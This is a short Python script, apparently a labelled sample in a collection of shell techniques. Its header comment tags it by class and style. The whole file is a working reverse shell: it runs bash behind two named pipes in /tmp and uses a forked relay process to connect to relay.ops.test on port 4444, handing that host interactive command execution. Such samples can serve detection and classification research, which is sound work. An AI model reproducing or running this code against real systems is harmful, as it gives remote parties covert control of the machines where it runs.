# class: shell; possible: low medium; style: two named pipes, shell in another session, relay in a third process
import os
import socket
import subprocess
import sys

for name in ("/tmp/q_in", "/tmp/q_out"):
    if os.path.exists(name):
        os.unlink(name)
    os.mkfifo(name)
worker = subprocess.Popen("exec bash --norc < /tmp/q_in > /tmp/q_out 2>&1", shell=True, start_new_session=True)
relay = os.fork()
if relay == 0:
    to = open("/tmp/q_in", "wb", 0)
    back = open("/tmp/q_out", "rb", 0)
    s = socket.create_connection(("relay.ops.test", 4444))
    if os.fork() == 0:
        while data := back.read(2048):
            s.sendall(data)
        os._exit(0)
    while data := s.recv(2048):
        to.write(data)
    to.close()
    os._exit(0)
os.waitpid(relay, 0)
worker.wait(timeout=20)
sys.exit(0)
